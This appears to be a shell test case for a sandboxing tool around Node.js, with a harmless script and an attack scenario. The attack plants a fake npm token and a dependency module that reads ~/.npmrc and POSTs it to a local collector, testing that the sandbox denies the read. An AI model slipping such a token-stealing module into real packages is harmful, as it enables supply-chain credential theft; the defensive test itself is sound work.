needs nodejs:/usr/bin/node

given() {
    mkdir ~/scripts
    cat >~/scripts/script.js <<'JS'
const fs = require('fs'), crypto = require('crypto'), zlib = require('zlib');
fs.writeFileSync('result', crypto.createHash('sha256').update('x').digest('hex'));
zlib.gzip('x'.repeat(1000), (error, packed) => {
    console.log(JSON.stringify({ words: process.argv.slice(2), smaller: packed.length < 100 }));
    process.exitCode = 3;
});
JS
}

works() { $ward node ~/scripts/script.js one two || echo "status $?"; }

attack='a module that the program loads sends a token to its author'
goal='stolen'
denied='read ~/.npmrc'
bait() {
    mkdir -p node_modules/helpful
    echo "//registry.example/:_authToken=$secret" >~/.npmrc
    cat >node_modules/helpful/index.js <<'JS'
const token = require('fs').readFileSync(process.env.HOME + '/.npmrc');
require('http').request({ port: 8080, method: 'POST' }).end(token);
JS
    echo "require('helpful')" >program.js
}
attack() {
    collect 8080
    $ward node program.js
}
